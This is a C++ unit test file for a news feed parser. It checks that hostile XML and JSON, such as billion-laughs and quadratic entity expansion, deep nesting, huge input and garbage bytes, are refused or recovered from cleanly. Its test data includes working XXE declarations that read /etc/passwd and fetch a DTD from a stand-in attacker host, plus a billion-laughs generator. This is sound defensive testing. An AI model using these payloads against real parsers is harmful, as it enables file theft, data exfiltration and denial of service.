// Hostile documents: refused quickly with a clear error, or recovered, never a
// crash, hang or unbounded memory.
#include <gtest/gtest.h>

#include "feed/feed_parser.h"
#include "feed/xml_reader.h"

namespace newsmon::feed {
namespace {

std::string BillionLaughs() {
  std::string dtd = "<!DOCTYPE rss [\n<!ENTITY l0 \"ha\">\n";
  for (int i = 1; i <= 9; ++i) {
    dtd += "<!ENTITY l" + std::to_string(i) + " \"";
    for (int k = 0; k < 10; ++k) dtd += "&l" + std::to_string(i - 1) + ";";
    dtd += "\">\n";
  }
  return "<?xml version=\"1.0\"?>\n" + dtd + "]>\n<rss><channel><title>&l9;</title></channel></rss>";
}

TEST(HostileTest, BillionLaughsIsRefused) {
  auto r = ParseFeed(BillionLaughs(), {});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::kLimit);
  EXPECT_NE(r.error().message.find("entity expansion"), std::string::npos);
}

TEST(HostileTest, QuadraticBlowupIsRefused) {
  const std::string big(100000, 'x');
  std::string body;
  for (int i = 0; i < 1000; ++i) body += "&big;";
  auto r = ParseFeed(
      "<!DOCTYPE rss [<!ENTITY big \"" + big + "\">]><rss><channel><title>" + body + "</title></channel></rss>", {});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::kLimit);
}

TEST(HostileTest, ExternalEntitiesAreRefused) {
  for (const char* decl :
       {"<!ENTITY xxe SYSTEM \"file:///etc/passwd\">", "<!ENTITY xxe PUBLIC \"-//X//Y\" \"http://attacker.example/x\">",
        "<!ENTITY % pe SYSTEM \"http://attacker.example/evil.dtd\"> %pe;"}) {
    auto r =
        ParseFeed(std::string("<!DOCTYPE rss [") + decl + "]><rss><channel><title>&xxe;</title></channel></rss>", {});
    ASSERT_FALSE(r.ok()) << decl;
    EXPECT_NE(r.error().message.find("external entit"), std::string::npos) << decl;
  }
}

TEST(HostileTest, InternalEntitiesStillWork) {
  auto r = ParseFeed(
      "<!DOCTYPE rss [<!ENTITY who \"the &amp; crew\">]><rss><channel><title>By &who;</title></channel></rss>", {});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->title, "By the & crew");
}

TEST(HostileTest, RecursiveEntityIsHarmless) {
  auto r = ParseFeed("<!DOCTYPE rss [<!ENTITY a \"&a;\">]><rss><channel><title>x&a;y</title></channel></rss>", {});
  // The self-reference is unknown while it is being declared: kept literally.
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->title, "x&a;y");
}

TEST(HostileTest, DeepNestingIsRefused) {
  std::string doc = "<rss><channel>";
  for (int i = 0; i < 100000; ++i) doc += "<x>";
  auto r = ParseFeed(doc, {});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::kLimit);
  EXPECT_NE(r.error().message.find("nested"), std::string::npos);
}

TEST(HostileTest, DeepJsonIsRefused) {
  std::string doc = "{\"items\":" + std::string(100000, '[') + std::string(100000, ']') + "}";
  auto r = ParseFeed(doc, {});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::kLimit);
}

TEST(HostileTest, HugeInputIsRefused) {
  const std::string huge(65u << 20, ' ');
  auto r = ParseFeed(huge, {});
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code, ErrorCode::kLimit);
}

TEST(HostileTest, ManyItemsParseInBoundedMemory) {
  std::string doc = "<rss><channel>";
  for (int i = 0; i < 20000; ++i) doc += "<item><title>t" + std::to_string(i) + "</title></item>";
  doc += "</channel></rss>";
  auto r = ParseFeed(doc, {});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->entries.size(), 20000u);
}

TEST(HostileTest, TruncatedDocumentsRecover) {
  const std::string full =
      "<?xml version=\"1.0\"?><rss version=\"2.0\"><channel><title>T</title><item><title>One</title>"
      "<description><![CDATA[<p>x</p>]]></description></item></channel></rss>";
  for (size_t n = 0; n <= full.size(); ++n) {
    auto r = ParseFeed(full.substr(0, n), {});
    if (r.ok()) {
      EXPECT_EQ(r->format, "rss");
    }
  }
  // Cut inside the item's title: the channel is read, the half item is not
  // an entry, and the feed says so (more in truncation_test.cc).
  auto cut = ParseFeed(full.substr(0, full.find("</title><item>") + 20), {});
  ASSERT_TRUE(cut.ok());
  EXPECT_EQ(cut->title, "T");
  EXPECT_TRUE(cut->truncated);
  EXPECT_TRUE(cut->entries.empty());
}

TEST(HostileTest, GarbageBytesGiveErrorsNotCrashes) {
  std::string junk;
  uint32_t x = 12345;
  for (int i = 0; i < 20000; ++i) {
    x = x * 1103515245 + 12345;
    junk += static_cast<char>("<>&;/!?[]\"'=ab \x00\xC3\xFF"[(x >> 16) % 19]);
  }
  auto r = ParseFeed(junk, {});
  (void)r;
  auto r2 = ParseFeed("<rss>" + junk, {});
  EXPECT_TRUE(r2.ok());
  auto r3 = ParseFeed("\xFF\xFE<", {});
  (void)r3;
}

TEST(HostileTest, ControlCharactersInNumericReferencesAreDropped) {
  auto r = ParseFeed("<rss><channel><title>a&#1;b&#0;c&#x1F;d&#xD800;e</title></channel></rss>", {});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->title,
            "abcd\xEF\xBF\xBD"
            "e");
}

TEST(HostileTest, ManyAttributesAndNamespacesStayLinear) {
  std::string tag = "<rss><channel><title";
  for (int i = 0; i < 50000; ++i)
    tag += " a" + std::to_string(i) + "=\"v\" xmlns:p" + std::to_string(i) + "=\"urn:x:" + std::to_string(i) + "\"";
  tag += ">T</title>";
  for (int i = 0; i < 20000; ++i) tag += "<item xmlns:q=\"urn:item:" + std::to_string(i) + "\"><q:x/></item>";
  auto r = ParseFeed(tag + "</channel></rss>", {});
  ASSERT_TRUE(r.ok());
  EXPECT_EQ(r->title, "T");
  EXPECT_EQ(r->entries.size(), 20000u);
}

TEST(HostileTest, LongXmlBaseDoesNotMultiply) {
  std::string doc =
      "<feed xmlns=\"http://www.w3.org/2005/Atom\" xml:base=\"http://x.example/" + std::string(1000, 'a') + "/\">";
  for (int i = 0; i < 20000; ++i) doc += "<entry><link href=\"p\"/></entry>";
  auto r = ParseFeed(doc + "</feed>", {});
  ASSERT_TRUE(r.ok());
  ASSERT_EQ(r->entries.size(), 20000u);
  EXPECT_EQ(r->entries[0].link, "http://x.example/" + std::string(1000, 'a') + "/p");
}

TEST(HostileTest, ReaderRecoversTagSoup) {
  auto doc = ReadXml("<root a=1 b='2' a=\"dup\"><x><y>text</x>after</zzz><br>&nbsp;</root>");
  ASSERT_TRUE(doc.ok());
  const XmlNode& root = doc->nodes[doc->root];
  ASSERT_EQ(root.attrs.size(), 2u);
  EXPECT_EQ(*root.Attr("a"), "1");
  EXPECT_EQ(doc->TextContent(doc->root), "textafter\xC2\xA0");
  EXPECT_GE(doc->warnings.size(), 2u);
}

}  // namespace
}  // namespace newsmon::feed
